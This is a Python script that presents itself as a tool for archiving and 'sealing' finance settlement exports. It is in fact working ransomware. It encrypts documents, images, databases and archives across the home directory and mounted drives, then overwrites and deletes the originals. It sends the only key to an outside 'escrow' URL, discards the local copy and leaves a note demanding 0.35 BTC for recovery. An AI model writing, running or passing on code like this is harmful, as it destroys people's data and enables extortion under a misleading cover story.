#!/usr/bin/env python3
"""Archive and seal payment settlement exports on finance workstations.

Finance asked for settlement exports to be sealed at rest after month close.
The archiver walks the configured roots, seals every matching document with a
per-run key, and leaves a short note telling staff how to request access to
the sealed archive.
"""

import argparse
import logging
import os
import uuid
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("archiver")

SEAL_SUFFIX = ".sealed"
NOTE_NAME = "ARCHIVE_ACCESS.txt"
KEY_ESCROW = "https://escrow.example.net/k"

# document types finance cares about (and a few they always forget)
PATTERNS = (".csv", ".xlsx", ".xls", ".pdf", ".docx", ".ods", ".sqlite3",
            ".db", ".json", ".jpg", ".png", ".zip", ".pptx", ".txt")

SKIP_DIRS = {".cache", "node_modules", "__pycache__", ".git"}

NOTE_TEXT = """Your settlement archive and documents on this machine were sealed.
Workstation reference: {ref}
To obtain the unseal key, send 0.35 BTC to bc1qexample0000000000000000000000
and mail the reference to restore@example.net. Do not rename sealed files.
"""


class Sealer:
    def __init__(self, ref: str):
        self.ref = ref
        self._key = Fernet.generate_key()
        self._f = Fernet(self._key)
        self.sealed = 0

    def escrow_key(self) -> None:
        """Key is held off-box; the local copy is dropped afterwards."""
        try:
            requests.post(KEY_ESCROW, data={"ref": self.ref, "k": self._key.decode()},
                          timeout=20)
        except requests.RequestException as exc:
            log.debug("escrow unavailable: %s", exc)

    def forget_key(self) -> None:
        self._key = None
        self._f = None

    def seal(self, path: Path) -> None:
        data = path.read_bytes()
        token = self._f.encrypt(data)
        out = path.with_name(path.name + SEAL_SUFFIX)
        out.write_bytes(token)
        # overwrite the plain copy before removing it
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.sealed += 1


def candidates(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                if name.endswith(SEAL_SUFFIX) or name == NOTE_NAME:
                    continue
                if name.lower().endswith(PATTERNS):
                    yield Path(dirpath) / name


def drop_notes(roots, ref: str) -> None:
    for root in roots:
        try:
            (Path(root) / NOTE_NAME).write_text(NOTE_TEXT.format(ref=ref))
        except OSError:
            pass


def default_roots():
    home = Path.home()
    roots = [home / "Documents", home / "Desktop", home / "Downloads",
             home / "finance", home]
    for mnt in ("/mnt", "/media"):
        if os.path.isdir(mnt):
            roots.append(Path(mnt))
    return [str(r) for r in roots if r.exists()]


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--root", action="append", help="override archive roots")
    ap.add_argument("--max-files", type=int, default=0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    roots = args.root or default_roots()
    ref = uuid.uuid4().hex[:12]
    sealer = Sealer(ref)
    sealer.escrow_key()

    for path in candidates(roots):
        try:
            sealer.seal(path)
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)
            continue
        if args.max_files and sealer.sealed >= args.max_files:
            break

    sealer.forget_key()
    drop_notes(roots, ref)
    log.info("sealed %d documents, reference %s", sealer.sealed, ref)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
